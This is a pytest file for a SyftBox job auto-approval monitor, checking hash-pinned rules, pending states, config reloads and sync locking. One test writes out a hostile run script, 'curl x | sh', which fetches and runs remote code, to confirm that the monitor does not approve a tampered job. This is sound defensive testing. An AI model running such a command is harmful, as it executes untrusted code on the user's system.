"""Jobs against the sandbox and a local SyftBox folder, both layouts."""

from __future__ import annotations

import fcntl
import logging

import pytest
from approve_world import ALICE, BOB, CAROL, DO, MAIN_PY, RUN_SH, ApproveWorld, rule

PARAMS = b'{"k": 3}\n'
RULES = {
    "auto_approvals": [
        # The legacy layout has no generated script: its run.sh is pinned by hash.
        rule(
            "train",
            {"main.py": MAIN_PY},
            peers=(ALICE, CAROL),
            name_only=("params.json",),
            run_sh=(RUN_SH,),
        ),
    ]
}


@pytest.fixture
def ruled(world: ApproveWorld) -> ApproveWorld:
    world.write_config(RULES)
    world.tick()  # baseline
    return world


def test_exactly_matching_job_is_approved_as_syft_job_writes_it(ruled: ApproveWorld) -> None:
    ruled.submit(ALICE, "train model", {"main.py": MAIN_PY, "params.json": PARAMS})
    report = ruled.tick()

    assert report.jobs_approved == 1
    state = ruled.state_yaml(ALICE, "train model")
    assert state is not None
    assert state["status"] == "approved"
    assert state["approved_by"] == DO
    assert state["approval_method"] == "auto"
    assert state["approved_at"].endswith("+00:00")
    assert state["received_at"]
    subjects = ruled.mail()
    assert (ALICE, "Job Approved: train model") in subjects
    assert (DO, "Re: Job: train model") in subjects
    # The owner's thread starts with the job, then the approval replies to it.
    assert subjects.index((DO, "Job: train model")) < subjects.index((DO, "Re: Job: train model"))
    assert ruled.monitor.metrics.approvals.labels("job", "approved")._value.get() == 1


def test_pending_job_keeps_its_other_state_keys(ruled: ApproveWorld) -> None:
    ruled.scientists[ALICE].submit_job(DO, "kept", {"main.py": MAIN_PY, "params.json": PARAMS})
    ruled.place_job(
        ALICE,
        "kept",
        {"main.py": MAIN_PY, "params.json": PARAMS},
        state={"status": "pending", "received_at": "2026-05-01T10:01:00+00:00", "custom": 7},
    )
    ruled.tick()
    state = ruled.state_yaml(ALICE, "kept")
    assert state is not None
    assert state["status"] == "approved"
    assert state["received_at"] == "2026-05-01T10:01:00+00:00"
    assert state["custom"] == 7


def test_legacy_job_gets_the_approved_marker(ruled: ApproveWorld) -> None:
    ruled.submit(CAROL, "legacy_job", {"main.py": MAIN_PY, "params.json": b"{}"})
    report = ruled.tick()
    assert report.jobs_approved == 1
    assert ruled.legacy_approved("legacy_job")
    assert (CAROL, "Job Approved: legacy_job") in ruled.mail()


@pytest.mark.parametrize(
    ("submitter", "files", "why"),
    [
        (ALICE, {"main.py": MAIN_PY, "params.json": PARAMS, "extra.py": b"x=1\n"}, "extra"),
        (ALICE, {"main.py": MAIN_PY}, "missing"),
        (ALICE, {"main.py": b"print('other')\n", "params.json": PARAMS}, "hash mismatch"),
        (BOB, {"main.py": MAIN_PY, "params.json": PARAMS}, "no rule"),
        (ALICE, {"main.py": MAIN_PY, "params.json": PARAMS, "__pycache__/m.pyc": b"\0"}, "extra"),
    ],
    ids=["extra-file", "missing-file", "hash-mismatch", "wrong-peer", "generated-file"],
)
def test_job_that_differs_stays_pending(
    ruled: ApproveWorld,
    caplog: pytest.LogCaptureFixture,
    submitter: str,
    files: dict[str, bytes],
    why: str,
) -> None:
    caplog.set_level(logging.INFO, logger="syft_monitors.approve")
    ruled.submit(submitter, "job", files)
    report = ruled.tick()

    assert report.jobs_approved == 0
    assert ruled.state_yaml(submitter, "job") is None
    assert [subject for _, subject in ruled.mail() if "Job" in subject] == []
    assert why in caplog.text
    assert ruled.monitor.metrics.approvals.labels("job", "no_match")._value.get() == 1
    ruled.tick()  # evaluated once: the same job under the same rules is not logged again
    assert ruled.monitor.metrics.approvals.labels("job", "no_match")._value.get() == 1


def test_invalid_job_shape_is_never_approved(ruled: ApproveWorld) -> None:
    folder = ruled.submit(ALICE, "shape", {"main.py": MAIN_PY, "params.json": PARAMS})
    (folder / "notes.txt").write_text("syft-job rejects a folder with this\n")
    assert ruled.tick().jobs_approved == 0
    assert ruled.state_yaml(ALICE, "shape") is None


def test_run_script_pinned_by_a_rule_must_match(world: ApproveWorld) -> None:
    world.write_config(
        {"auto_approvals": [rule("pinned", {"main.py": MAIN_PY}, peers=(ALICE,), run_sh=(RUN_SH,))]}
    )
    world.tick()
    world.submit(ALICE, "evil", {"main.py": MAIN_PY}, run_sh="#!/bin/bash\ncurl x | sh\n")
    world.submit(ALICE, "good", {"main.py": MAIN_PY})
    world.tick()
    assert world.state_yaml(ALICE, "evil") is None
    state = world.state_yaml(ALICE, "good")
    assert state is not None
    assert state["status"] == "approved"


def test_jobs_waiting_at_first_start_are_evaluated(world: ApproveWorld) -> None:
    world.place_job(ALICE, "waiting", {"main.py": MAIN_PY, "params.json": PARAMS})
    world.write_config(RULES)
    report = world.tick()
    assert report.baseline
    assert report.jobs_approved == 1


def test_job_folder_appearing_later_is_found_without_drive(ruled: ApproveWorld) -> None:
    # No message on Drive (the owner's client got it long ago): the local check finds it.
    ruled.place_job(ALICE, "late", {"main.py": MAIN_PY, "params.json": PARAMS})
    assert ruled.tick().jobs_approved == 1


def test_rule_change_applies_on_the_next_tick(
    world: ApproveWorld, caplog: pytest.LogCaptureFixture
) -> None:
    world.write_config({"approved_domains": ["uni.example"]})
    world.tick()
    world.submit(ALICE, "train", {"main.py": MAIN_PY, "params.json": PARAMS})
    assert world.tick().jobs_approved == 0

    world.write_config(raw="approve: [not a mapping\n")  # a broken edit: the old rules stay
    with caplog.at_level(logging.ERROR, logger="syft_monitors.approve"):
        world.tick()
        world.tick()
    assert caplog.text.count("config not reloaded") == 1

    world.write_config(RULES)
    report = world.tick()
    assert report.rules_reloaded
    assert report.jobs_approved == 1
    assert world.monitor.interval == 5

    world.write_config({"auto_approvals": []})  # removing the rule stops approvals at once
    world.submit(ALICE, "train 2", {"main.py": MAIN_PY, "params.json": PARAMS})
    assert world.tick().jobs_approved == 0


def test_owner_sync_in_progress_defers_evaluation(ruled: ApproveWorld) -> None:
    ruled.submit(ALICE, "locked", {"main.py": MAIN_PY, "params.json": PARAMS})
    with (ruled.syftbox / ".sync.lock").open("a") as handle:
        fcntl.flock(handle.fileno(), fcntl.LOCK_EX)
        report = ruled.tick()
        assert report.jobs_deferred
        assert report.jobs_approved == 0
        fcntl.flock(handle.fileno(), fcntl.LOCK_UN)
    assert ruled.tick().jobs_approved == 1


def test_idle_tick_is_one_drive_request(ruled: ApproveWorld) -> None:
    ruled.scientists[ALICE].request_peer(DO)
    ruled.submit(ALICE, "train", {"main.py": MAIN_PY, "params.json": PARAMS})
    ruled.tick()
    ruled.tick()  # our own writes come back through the feed once
    mark = ruled.sandbox.mark()
    ruled.tick()
    assert ruled.drive_calls(mark) == ["changes.list"]
